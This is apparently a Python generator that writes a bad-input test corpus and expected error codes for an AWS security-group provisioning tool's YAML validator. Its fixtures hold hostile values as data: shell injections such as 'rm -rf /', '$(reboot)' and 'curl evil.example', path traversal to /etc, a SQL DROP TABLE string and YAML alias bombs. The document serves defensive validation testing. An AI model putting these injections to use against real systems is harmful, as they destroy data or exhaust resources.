#!/usr/bin/env python3
"""Writes the bad-input corpus: one file per input-validation rule, and expected.json.

Each case names the error code and line it must produce; `--record-columns BINARY` runs the built
tool over every file once and fills in the column it reports, refusing to record when the code or
line differs from what the case says. The files, not this script, are the fixtures: the test reads
expected.json and never runs this script.
"""
import json
import os
import random
import subprocess
import sys
import tempfile
import shutil

HERE = os.path.dirname(os.path.abspath(__file__))

CONFIG = """company_prefix: globalbank
environment: prod
deployment_id: c001
region: us-west-2
vpc_id: vpc-0a1b2c3d4e5f67890
vpc_cidr: 10.0.0.0/16
scenario: three-tier-web
tags:
  owner: fraud-team
"""

SCENARIO = """name: {name}
description: Two tiers for the bad-input corpus
tiers:
  web:
    public: true
    ingress:
      - {{ protocol: tcp, port: 443, source: 0.0.0.0/0, description: HTTPS }}
    egress:
      - {{ protocol: tcp, port: 8080, destination_tier: app, description: To app }}
  app:
    ingress:
      - {{ protocol: tcp, port: 8080, source_tier: web, description: From web }}
    egress: []
"""

cases = []


def config(name, text, code, line, why):
    cases.append(("config", f"c-{name}.yaml", text, code, line, why))


def scenario(name, body, code, line, why):
    """body: the text after the standard header (name/description/tiers:), or a full text via callable."""
    stem = f"s-{name}"
    text = body(stem) if callable(body) else f"name: {stem}\ndescription: Bad-input corpus\ntiers:\n" + body
    cases.append(("scenario", f"{stem}.yaml", text, code, line, why))


def replace(old, new, base=CONFIG):
    assert old in base, old
    return base.replace(old, new, 1)


def rule(text, direction="ingress", tier_public=False):
    """A scenario body with one tier `web` whose single rule in `direction` is `text` (line 7)."""
    other = "egress" if direction == "ingress" else "ingress"
    return (f"  web:\n    description: Web\n    {other}: []\n    {direction}:\n"
            f"      # the rule under test\n"
            f"      - {text}\n")


# ---- config: names (path traversal, shell metacharacters, pattern) ----
config("company-path-traversal", replace("company_prefix: globalbank", 'company_prefix: "../../../etc"'), "E212", 1, "path traversal in a name")
config("company-slash", replace("company_prefix: globalbank", "company_prefix: global/bank"), "E212", 1, "separator in a name")
config("environment-semicolon", replace("environment: prod", 'environment: "prod; rm -rf /"'), "E212", 2, "shell command separator")
config("environment-pipe", replace("environment: prod", 'environment: "prod|sh"'), "E212", 2, "shell pipe")
config("deployment-backtick", replace("deployment_id: c001", 'deployment_id: "`id`"'), "E212", 3, "shell command substitution")
config("deployment-dollar", replace("deployment_id: c001", 'deployment_id: "$(reboot)"'), "E212", 3, "shell command substitution")
config("deployment-ampersand", replace("deployment_id: c001", 'deployment_id: "c001&&x"'), "E212", 3, "shell and-list")
config("deployment-redirect", replace("deployment_id: c001", 'deployment_id: "c001>x"'), "E212", 3, "shell redirection")
config("environment-newline", replace("environment: prod", 'environment: "prod\\nx"'), "E212", 2, "newline in a name")
config("company-uppercase", replace("company_prefix: globalbank", "company_prefix: GlobalBank"), "E212", 1, "upper case")
config("environment-leading-hyphen", replace("environment: prod", 'environment: "-prod"'), "E212", 2, "option-like name")
config("environment-trailing-hyphen", replace("environment: prod", "environment: prod-"), "E212", 2, "trailing hyphen")
config("deployment-too-long", replace("deployment_id: c001", "deployment_id: " + "a" * 64), "E212", 3, "64 characters")
config("company-space", replace("company_prefix: globalbank", 'company_prefix: "global bank"'), "E212", 1, "space in a name")
config("company-dot", replace("company_prefix: globalbank", "company_prefix: global.bank"), "E212", 1, "dot in a name")
config("seed-injection", open(os.path.join(HERE, "..", "config", "bad", "configs", "injection.yaml")).read(), "E212", 2, "the seed guide's own bad example")
# ---- config: region, VPC, scenario reference ----
config("region-typo", replace("region: us-west-2", "region: us-west2"), "E213", 4, "region typo")
config("region-made-up", replace("region: us-west-2", "region: mars-north-1"), "E213", 4, "no such region")
config("vpc-id-short", replace("vpc_id: vpc-0a1b2c3d4e5f67890", "vpc_id: vpc-123"), "E214", 5, "too few hex digits")
config("vpc-id-uppercase", replace("vpc_id: vpc-0a1b2c3d4e5f67890", "vpc_id: vpc-0A1B2C3D"), "E214", 5, "upper-case hex")
config("vpc-id-injection", replace("vpc_id: vpc-0a1b2c3d4e5f67890", 'vpc_id: "vpc-0a1b2c3d;ls"'), "E214", 5, "shell metacharacter")
config("vpc-cidr-octet", replace("vpc_cidr: 10.0.0.0/16", "vpc_cidr: 10.0.0.256/16"), "E215", 6, "octet over 255")
config("vpc-cidr-prefix", replace("vpc_cidr: 10.0.0.0/16", "vpc_cidr: 10.0.0.0/33"), "E215", 6, "prefix over 32")
config("vpc-cidr-ipv6", replace("vpc_cidr: 10.0.0.0/16", 'vpc_cidr: "2001:db8::/32"'), "E215", 6, "IPv6 VPC CIDR")
config("vpc-cidr-words", replace("vpc_cidr: 10.0.0.0/16", "vpc_cidr: everything"), "E215", 6, "not a CIDR")
config("scenario-path", replace("scenario: three-tier-web", "scenario: ../scenarios/three-tier-web"), "E216", 7, "scenario as a relative path")
config("scenario-absolute", replace("scenario: three-tier-web", "scenario: /etc/passwd"), "E216", 7, "scenario as an absolute path")
config("scenario-missing", replace("scenario: three-tier-web", "scenario: four-tier-web"), "E227", 7, "no such scenario")
# ---- config: keys and kinds ----
config("unknown-key", CONFIG + "colour: blue\n", "E205", 10, "unknown key")
config("misspelt-key", replace("vpc_cidr:", "vpc_cdir:"), "E205", 6, "misspelt optional key")
config("missing-region", replace("region: us-west-2\n", ""), "E206", 1, "required key missing")
config("tags-sequence", replace("tags:\n  owner: fraud-team\n", "tags: [owner, fraud-team]\n"), "E207", 8, "tags as a list")
config("overrides-mapping", CONFIG + "overrides: { tier: app }\n", "E207", 10, "overrides as a mapping")
config("region-sequence", replace("region: us-west-2", "region: [us-west-2]"), "E207", 4, "region as a list")
config("explicit-str-tag", replace("region: us-west-2", "region: !!str us-west-2"), "E208", 4, "YAML core tag")
config("cloudformation-tag", replace("vpc_id: vpc-0a1b2c3d4e5f67890", "vpc_id: !Ref Vpc"), "E208", 5, "CloudFormation short-form tag")
config("root-sequence", "- company_prefix: globalbank\n- environment: prod\n", "E204", 1, "root is a list")
config("root-scalar", "globalbank\n", "E204", 1, "root is a scalar")
config("empty", "", "E203", 1, "empty file")
config("comments-only", "# nothing here\n# at all\n", "E203", 1, "comments only")
config("whitespace-only", "\n   \n\n", "E203", 1, "blank lines only")
# ---- config: tags ----
config("tag-reserved-aws", CONFIG + '  "aws:owner": x\n', "E218", 10, "reserved aws: prefix")
config("tag-reserved-tool", CONFIG + '  "sg-provisioner:tier": web\n', "E218", 10, "the tool's own tag prefix")
config("tag-reserved-name", CONFIG + "  Name: fraud-web\n", "E218", 10, "Name, which the tool sets on every group")
config("tag-value-too-long", CONFIG + "  project: " + "p" * 257 + "\n", "E217", 10, "tag value over 256")
config("tag-key-too-long", CONFIG + "  " + "k" * 129 + ": x\n", "E217", 10, "tag key over 128")
config("tag-bad-character", CONFIG + '  project: "fraud<script>"\n', "E217", 10, "character AWS rejects")
config("too-many-tags", CONFIG + "".join(f"  tag{i}: v\n" for i in range(47)), "E219", 9, "48 tags, limit 47")
# ---- config: overrides ----
OVR = CONFIG + "overrides:\n  - tier: app\n"
config("override-no-description", OVR + "    add_ingress:\n      - { protocol: tcp, port: 8443, source_tier: web, description: TLS }\n", "E206", 11, "description is required")
config("override-empty-description", OVR + "    add_ingress:\n      - { protocol: tcp, port: 8443, source_tier: web, description: TLS }\n    description: \"\"\n", "E220", 14, "empty description")
config("override-unknown-tier", CONFIG + "overrides:\n  - tier: ap\n    add_ingress:\n      - { protocol: tcp, port: 8443, source_tier: web, description: TLS }\n    description: Add TLS\n", "E221", 11, "misspelt tier")
config("override-stale", OVR + "    remove_ingress:\n      - { protocol: tcp, port: 9999, source_tier: web }\n    description: Remove nothing\n", "E222", 13, "removes a rule that is not there")
config("override-empty", OVR + "    description: Does nothing\n", "E223", 11, "neither adds nor removes")
config("override-bad-rule", OVR + "    add_ingress:\n      - { protocol: tcp, port: 99999, source_tier: web, description: TLS }\n    description: Bad port\n", "E305", 13, "rules in overrides are checked like scenario rules")
# ---- config: accepted risks and port catalog ----
RISK = CONFIG + "accepted_risks:\n  - finding: SG-WORLD-ADMIN\n    tier: web\n    reason: Ticket SEC-1\n    expires: 2027-03-31\n    ingress: { protocol: tcp, port: 22, source: 0.0.0.0/0 }\n"
# The pre-binding form: a finding kind and a tier, no rule (the web tier's 443 from the world is the one match).
RISK_TIER_ONLY = CONFIG + "accepted_risks:\n  - finding: SG-WORLD-WEB-PUBLIC\n    tier: web\n    reason: Ticket SEC-1\n    expires: 2027-03-31\n"
config("risk-bad-finding-id", replace("finding: SG-WORLD-ADMIN", "finding: WORLD-ADMIN", RISK), "E224", 11, "not an SG- id")
config("risk-unknown-tier", replace("tier: web", "tier: bastion", RISK), "E225", 12, "no such tier")
config("risk-impossible-date", replace("expires: 2027-03-31", "expires: 2027-02-30", RISK), "E211", 14, "February 30th")
config("risk-date-format", replace("expires: 2027-03-31", "expires: 31/03/2027", RISK), "E211", 14, "day-first date")
config("risk-empty-reason", replace("reason: Ticket SEC-1", 'reason: ""', RISK), "E220", 13, "empty reason")
config("risk-missing-expiry", replace("    expires: 2027-03-31\n", "", RISK), "E206", 11, "expiry is required")
config("risk-unknown-finding", replace("finding: SG-WORLD-ADMIN", "finding: SG-NOT-A-FINDING", RISK), "E506", 11, "well-formed but unknown finding id")
config("risk-names-no-rule", RISK_TIER_ONLY, "E802", 11, "a rule's finding accepted by kind and tier alone")
config("risk-expires-far", replace("expires: 2027-03-31", "expires: 9999-12-31", RISK), "E803", 14, "expires more than a year away")
config("risk-two-bindings", RISK + "    fingerprint: 0123456789abcdef0123456789abcdef\n", "E229", 16, "ingress and fingerprint together")
config("risk-bad-fingerprint", RISK_TIER_ONLY + "    fingerprint: SG-WORLD-WEB-PUBLIC|web\n", "E230", 15, "the old readable fingerprint")
config("vpc-cidr-world", replace("vpc_cidr: 10.0.0.0/16", "vpc_cidr: 0.0.0.0/0"), "E215", 6, "the internet as the VPC")
config("vpc-cidr-slash-8", replace("vpc_cidr: 10.0.0.0/16", "vpc_cidr: 10.0.0.0/8"), "E215", 6, "wider than a VPC can be")
config("catalog-lowers-builtin", CONFIG + "port_catalog:\n  - { port_range: 0-65535, protocol: all, name: everything, category: web }\n", "E804", 11, "every port declared web")
config("catalog-bad-category", CONFIG + "port_catalog:\n  - { port: 7000, name: Cassandra, category: dangerous }\n", "E226", 11, "unknown category")
config("catalog-bad-protocol", CONFIG + "port_catalog:\n  - { port: 7000, protocol: icmp, name: Cassandra, category: database }\n", "E226", 11, "icmp in the port catalog")
# ---- config: YAML syntax and encoding ----
config("tab-indentation", replace("tags:\n  owner: fraud-team\n", "tags:\n\towner: fraud-team\n"), "E101", 9, "tab used for indentation")
config("unclosed-quote", replace("region: us-west-2", 'region: "us-west-2'), "E101", 10, "double quote never closed (reported at the end, with a note where it began)")
config("unclosed-flow", replace("tags:\n  owner: fraud-team\n", "tags: { owner: fraud-team\n"), "E101", 9, "flow mapping never closed")
config("bad-indentation", replace("environment: prod", "  environment: prod"), "E101", 2, "indentation error")
config("multiple-documents", CONFIG + "---\ncompany_prefix: other\n", "E103", 10, "a second YAML document")
config("duplicate-key", CONFIG + "region: eu-west-1\n", "E104", 10, "region given twice")
config("unknown-alias", replace("region: us-west-2", "region: *west"), "E110", 4, "alias without anchor")
config("complex-key", CONFIG + "? [a, b]\n: c\n", "E109", 10, "sequence as a key")
config("invalid-merge", CONFIG + "<<: 5\n", "E112", 10, "merge of a scalar")
config("crlf-syntax-error", replace("region: us-west-2", 'region: "us-west-2').replace("\n", "\r\n"), "E101", 10, "CRLF lines still give the right line")
BYTE_CASES = []


def config_bytes(name, data, code, line, why):
    cases.append(("config", f"c-{name}.yaml", data, code, line, why))


config_bytes("utf16le-bom", b"\xff\xfe" + CONFIG.encode("utf-16-le"), "E102", 1, "UTF-16 little-endian")
config_bytes("utf16be-bom", b"\xfe\xff" + CONFIG.encode("utf-16-be"), "E102", 1, "UTF-16 big-endian")
config_bytes("invalid-utf8", CONFIG.replace("fraud-team", "fraud\xc3(team").encode("latin-1"), "E102", 9, "lone UTF-8 lead byte")
config_bytes("latin1", CONFIG.replace("fraud-team", "équipe").encode("latin-1"), "E102", 9, "Latin-1 text")
config_bytes("overlong-utf8", CONFIG.encode() + b"x: \xc0\xaf\n", "E102", 10, "overlong encoding of '/'")
config_bytes("surrogate-utf8", CONFIG.encode() + b"x: \xed\xa0\x80\n", "E102", 10, "UTF-16 surrogate in UTF-8")
config_bytes("beyond-unicode", CONFIG.encode() + b"x: \xf4\x90\x80\x80\n", "E102", 10, "code point past U+10FFFF")
config_bytes("nul-byte", CONFIG.encode() + b"x: a\x00b\n", "E102", 10, "NUL inside a value")
config_bytes("control-character", CONFIG.encode() + b"x: a\x1b[31mb\n", "E102", 10, "escape character inside a value")
rng = random.Random(20260505)
config_bytes("binary-garbage", bytes([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01]) + bytes(rng.randrange(256) for _ in range(2000)), "E102", 1, "an ELF header and random bytes")
config_bytes("gzip", bytes([0x1f, 0x8b, 0x08, 0x00]) + bytes(rng.randrange(256) for _ in range(200)), "E102", 1, "a gzip stream")
# ---- config: limits ----
config("alias-bomb", "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(8)), "E106", 5, "billion laughs")
config("deep-flow-nesting", "a: " + "[" * 20000 + "]" * 20000 + "\n", "E105", 1, "20,000 nested flow sequences")
config("deep-block-nesting", "".join("  " * i + f"k{i}:\n" for i in range(100)) + "  " * 100 + "v\n", "E105", 65, "100 nested block mappings")
config("huge-scalar", CONFIG + "  project: " + "x" * 70000 + "\n", "E108", 10, "a 70,000-byte value")

# ---- scenarios: rule fields ----
scenario("protocol-unknown", rule("{ protocol: tcpp, port: 22, source: 10.0.0.0/24, description: SSH }"), "E301", 9, "misspelt protocol")
scenario("protocol-number-too-big", rule("{ protocol: 256, source: 10.0.0.0/24, description: Proto }"), "E301", 9, "protocol number over 255")
scenario("protocol-injection", rule('{ protocol: "tcp; rm -rf /", port: 22, source: 10.0.0.0/24, description: X }'), "E301", 9, "shell text as protocol")
scenario("missing-ports", rule("{ protocol: tcp, source: 10.0.0.0/24, description: TCP }"), "E302", 9, "tcp without a port")
scenario("port-with-all", rule("{ protocol: all, port: 22, source: 10.0.0.0/24, description: All }"), "E303", 9, "port with protocol all")
scenario("port-range-with-icmp", rule("{ protocol: icmp, port_range: 1-2, source: 10.0.0.0/24, description: Ping }"), "E303", 9, "ports with icmp")
scenario("port-and-range", rule("{ protocol: tcp, port: 22, port_range: 20-30, source: 10.0.0.0/24, description: X }"), "E304", 9, "both port and port_range")
scenario("port-too-big", rule("{ protocol: tcp, port: 70000, source: 10.0.0.0/24, description: X }"), "E305", 9, "port over 65535")
scenario("port-range-too-big", rule("{ protocol: tcp, port_range: 1-65536, source: 10.0.0.0/24, description: X }"), "E305", 9, "range end over 65535")
scenario("port-negative", rule("{ protocol: tcp, port: -1, source: 10.0.0.0/24, description: X }"), "E209", 9, "negative port")
scenario("port-hex", rule("{ protocol: tcp, port: 0x16, source: 10.0.0.0/24, description: X }"), "E209", 9, "hexadecimal port")
scenario("port-octal", rule("{ protocol: tcp, port: 022, source: 10.0.0.0/24, description: X }"), "E209", 9, "leading zero")
scenario("port-float", rule("{ protocol: tcp, port: 22.0, source: 10.0.0.0/24, description: X }"), "E209", 9, "decimal point")
scenario("port-sexagesimal", rule("{ protocol: tcp, port: 22:80, source: 10.0.0.0/24, description: X }"), "E209", 9, "YAML 1.1 base-60")
scenario("port-huge-number", rule("{ protocol: tcp, port: 99999999999999999999999, source: 10.0.0.0/24, description: X }"), "E305", 9, "overflows Int64")
scenario("port-range-reversed", rule("{ protocol: tcp, port_range: 100-50, source: 10.0.0.0/24, description: X }"), "E306", 9, "start after end")
scenario("port-range-three-parts", rule("{ protocol: tcp, port_range: 1-2-3, source: 10.0.0.0/24, description: X }"), "E306", 9, "not A-B")
scenario("port-range-words", rule("{ protocol: tcp, port_range: low-high, source: 10.0.0.0/24, description: X }"), "E306", 9, "words")
scenario("icmp-type-too-big", rule("{ protocol: icmp, icmp_type: 300, source: 10.0.0.0/24, description: Ping }"), "E307", 9, "ICMP type over 255")
scenario("icmp-code-too-big", rule("{ protocol: icmp, icmp_type: 3, icmp_code: 256, source: 10.0.0.0/24, description: Ping }"), "E307", 9, "ICMP code over 255")
scenario("icmp-code-without-type", rule("{ protocol: icmp, icmp_code: 1, source: 10.0.0.0/24, description: Ping }"), "E307", 9, "code without type")
scenario("icmp-type-on-tcp", rule("{ protocol: tcp, port: 22, icmp_type: 8, source: 10.0.0.0/24, description: X }"), "E307", 9, "ICMP field on tcp")
scenario("no-peer", rule("{ protocol: tcp, port: 22, description: SSH }"), "E308", 9, "no source")
scenario("two-peers", rule("{ protocol: tcp, port: 22, source: 10.0.0.0/24, source_tier: web, description: SSH }"), "E308", 9, "source and source_tier")
scenario("source-on-egress", rule("{ protocol: tcp, port: 22, source: 10.0.0.0/24, description: SSH }", "egress"), "E309", 9, "source key on egress")
scenario("destination-on-ingress", rule("{ protocol: tcp, port: 22, destination: 10.0.0.0/24, description: SSH }"), "E309", 9, "destination key on ingress")
scenario("cidr-octet", rule("{ protocol: tcp, port: 22, source: 10.0.0.300/24, description: SSH }"), "E310", 9, "octet over 255")
scenario("cidr-prefix", rule("{ protocol: tcp, port: 22, source: 10.0.0.0/33, description: SSH }"), "E310", 9, "prefix over 32")
scenario("cidr-no-prefix", rule("{ protocol: tcp, port: 22, source: 10.0.0.1, description: SSH }"), "E310", 9, "address without prefix")
scenario("cidr-ipv6-prefix", rule('{ protocol: tcp, port: 22, source: "2001:db8::/129", description: SSH }'), "E310", 9, "IPv6 prefix over 128")
scenario("cidr-ipv6-triple-colon", rule('{ protocol: tcp, port: 22, source: "2001:db8:::/64", description: SSH }'), "E310", 9, "malformed IPv6")
scenario("cidr-injection", rule('{ protocol: tcp, port: 22, source: "0.0.0.0/0; curl evil.example", description: SSH }'), "E310", 9, "shell text after a CIDR")
scenario("cidr-leading-zero", rule("{ protocol: tcp, port: 22, source: 010.0.0.0/8, description: SSH }"), "E310", 9, "octal-looking octet")
scenario("security-group-id", rule("{ protocol: tcp, port: 22, source_security_group: sg-xyz, description: SSH }"), "E311", 9, "not a group id")
scenario("prefix-list-id", rule("{ protocol: tcp, port: 22, source_prefix_list: pl-1, description: SSH }"), "E312", 9, "not a prefix list id")
scenario("unknown-tier-reference", rule("{ protocol: tcp, port: 22, source_tier: bastoin, description: SSH }"), "E313", 9, "misspelt tier")
scenario("description-bad-character", rule('{ protocol: tcp, port: 22, source: 10.0.0.0/24, description: "SSH <b>" }'), "E314", 9, "character AWS rejects")
scenario("description-non-ascii", rule('{ protocol: tcp, port: 22, source: 10.0.0.0/24, description: "Café SSH" }'), "E314", 9, "non-ASCII letter")
scenario("description-too-long", rule("{ protocol: tcp, port: 22, source: 10.0.0.0/24, description: " + "d" * 256 + " }"), "E314", 9, "256 characters")
scenario("description-quote-injection", rule("{ protocol: tcp, port: 22, source: 10.0.0.0/24, description: \"x' ; DROP TABLE\" }"), "E314", 9, "quote in a description")
scenario("unknown-rule-key", rule("{ protocol: tcp, port: 22, sourse: 10.0.0.0/24, description: SSH }"), "E205", 9, "misspelt key")
scenario("missing-protocol", rule("{ port: 22, source: 10.0.0.0/24, description: SSH }"), "E206", 9, "no protocol")
scenario("port-tagged", rule("{ protocol: tcp, port: !!int 22, source: 10.0.0.0/24, description: SSH }"), "E208", 9, "explicit int tag")
scenario("rule-scalar", rule('"tcp 22 from 10.0.0.0/24"'), "E207", 9, "rule as a string")
scenario("duplicate-rule", "  web:\n    egress: []\n    ingress:\n      - { protocol: tcp, port: 22, source: 10.0.0.0/24, description: SSH }\n      - { protocol: tcp, port: 22, source: 10.0.0.0/24, description: SSH again }\n", "E315", 8, "same rule twice")
scenario("duplicate-rule-by-alias", "  web:\n    egress: []\n    ingress:\n      - &ssh { protocol: tcp, port: 22, source: 10.0.0.0/24, description: SSH }\n      - *ssh\n", "E315", 8, "same rule through an alias")
scenario("duplicate-rule-spelt-differently", "  web:\n    egress: []\n    ingress:\n      - { protocol: tcp, port: 22, source: 10.0.0.0/24, description: SSH }\n      - { protocol: \"6\", port_range: 22-22, source: 10.0.0.0/24, description: SSH }\n", "E315", 8, "protocol number and range spelling")
scenario("too-many-rules", "  web:\n    egress: []\n    ingress:\n" + "".join(
    f"      - {{ protocol: tcp, port: {1000 + i}, source: 10.0.0.0/24, description: Rule {i} }}\n" for i in range(61)), "E316", 4, "61 ingress rules, AWS allows 60")
# ---- scenarios: structure ----
scenario("no-tiers", lambda stem: f"name: {stem}\ntiers: {{}}\n", "E317", 2, "empty tiers")
scenario("tiers-sequence", lambda stem: f"name: {stem}\ntiers: [web, app]\n", "E207", 2, "tiers as a list")
scenario("tier-name-uppercase", "  Web_Tier:\n    egress: []\n", "E318", 4, "tier name pattern")
scenario("tier-name-traversal", '  "../web":\n    egress: []\n', "E318", 4, "path traversal in a tier name")
scenario("tier-name-shell", '  "web;reboot":\n    egress: []\n', "E318", 4, "shell metacharacter in a tier name")
scenario("null-egress", "  web:\n    egress:\n", "E319", 5, "egress with no value")
scenario("scenario-name-pattern", lambda stem: 'name: "Three Tier!"\ntiers:\n  web:\n    egress: []\n', "E320", 1, "scenario name pattern")
scenario("missing-name", lambda stem: "tiers:\n  web:\n    egress: []\n", "E206", 1, "name is required")
scenario("unknown-tier-key", "  web:\n    egress: []\n    ingres: []\n", "E205", 6, "misspelt ingress")
scenario("public-yes", "  web:\n    public: yes\n    egress: []\n", "E210", 5, "YAML 1.1 boolean")
scenario("public-capitalised", "  web:\n    public: True\n    egress: []\n", "E210", 5, "capitalised boolean")
scenario("ingress-mapping", "  web:\n    ingress: { protocol: tcp }\n    egress: []\n", "E207", 5, "ingress as a mapping")
scenario("tier-description-bad", '  web:\n    description: "Web <tier>"\n    egress: []\n', "E314", 5, "tier description character")
scenario("duplicate-tier", "  web:\n    egress: []\n  web:\n    egress: []\n", "E104", 6, "tier defined twice")
scenario("tab-in-rule-list", "  web:\n    egress: []\n    ingress:\n\t- { protocol: tcp, port: 22, source: 10.0.0.0/24, description: SSH }\n", "E101", 7, "tab before a list item")
scenario("multiple-documents", lambda stem: SCENARIO.format(name=stem) + "...\n---\nname: second\n", "E103", 15, "second document")
scenario("alias-bomb", lambda stem: f"name: {stem}\nx0: &x0 [a, a, a, a, a, a, a, a, a, a]\n" + "".join(
    f"x{i + 1}: &x{i + 1} [{', '.join(['*x' + str(i)] * 10)}]\n" for i in range(8)), "E106", 6, "billion laughs in a scenario")
scenario("deep-nesting", lambda stem: f"name: {stem}\ntiers: " + "{a: " * 5000 + "b" + "}" * 5000 + "\n", "E105", 2, "5,000 nested flow mappings")
scenario("empty-file", lambda stem: "", "E203", 1, "empty scenario")
cases.append(("scenario", "s-utf16le-bom.yaml", b"\xff\xfe" + SCENARIO.format(name="s-utf16le-bom").encode("utf-16-le"), "E102", 1, "UTF-16 scenario"))
cases.append(("scenario", "s-invalid-utf8.yaml", SCENARIO.format(name="s-invalid-utf8").replace("To app", "To \xe9app").encode("latin-1"), "E102", 9, "Latin-1 in a description"))


def write_all():
    for old in os.listdir(HERE):
        if old.startswith(("c-", "s-")) and old.endswith(".yaml"):
            os.remove(os.path.join(HERE, old))
    for kind, name, content, *_ in cases:
        data = content if isinstance(content, bytes) else content.encode()
        with open(os.path.join(HERE, name), "wb") as f:
            f.write(data)


def record_columns(binary):
    """Runs every case once; returns {file: column}, failing on any code or line mismatch."""
    root = os.path.abspath(os.path.join(HERE, "..", "..", ".."))
    work = tempfile.mkdtemp(prefix="sg-bad-")
    problems, columns = [], {}
    try:
        for folder in ("configs", "scenarios"):
            shutil.copytree(os.path.join(root, folder), os.path.join(work, folder))
        for kind, name, _content, code, line, _why in cases:
            if kind == "config":
                shutil.copy(os.path.join(HERE, name), os.path.join(work, "configs", name))
                path = f"configs/{name}"
                target = path
            else:
                shutil.copy(os.path.join(HERE, name), os.path.join(work, "scenarios", name))
                path = f"scenarios/{name}"
                probe = f"configs/probe-{name}"
                with open(os.path.join(work, probe), "w") as f:
                    f.write(CONFIG.replace("scenario: three-tier-web", f"scenario: {name[:-5]}"))
                target = probe
            run = subprocess.run([binary, "-con", target, "-act", "validate-prov-template", "--no-color"],
                                 cwd=work, capture_output=True, text=True, errors="replace", timeout=60)
            prefix = f"{path}:{line}:"
            hits = [l for l in run.stderr.splitlines() if l.startswith(prefix) and f"[{code}]" in l and ": error: " in l]
            if run.returncode != 1 or not hits:
                problems.append(f"{name}: exit {run.returncode}, wanted {code} at line {line}\n{run.stderr[:1500]}")
                continue
            columns[name] = int(hits[0][len(prefix):].split(":")[0])
    finally:
        shutil.rmtree(work)
    if problems:
        sys.exit("\n\n".join(problems))
    return columns


def main():
    write_all()
    columns = {}
    if len(sys.argv) == 3 and sys.argv[1] == "--record-columns":
        columns = record_columns(sys.argv[2])
    else:
        old = json.load(open(os.path.join(HERE, "expected.json"))) if os.path.exists(os.path.join(HERE, "expected.json")) else {}
        columns = {c["file"]: c["column"] for c in old.get("cases", [])}
    manifest = {
        "about": "Bad-input corpus: each file must make `sg-provisioner -act validate-prov-template` exit 1 with "
                 "this error code at this location (config files are run as -con configs/FILE; scenario files as "
                 "scenarios/FILE named by a valid config) and write nothing to reports/ but the audit log. "
                 "Generated by generate.py; columns recorded with --record-columns and reviewed.",
        "cases": [
            {"file": name, "as": kind, "code": code, "line": line, "column": columns.get(name, 0), "why": why}
            for kind, name, _c, code, line, why in sorted(cases, key=lambda c: c[1])
        ],
    }
    with open(os.path.join(HERE, "expected.json"), "w") as f:
        json.dump(manifest, f, indent=2, sort_keys=True)
        f.write("\n")
    print(f"{len(cases)} cases")


main()
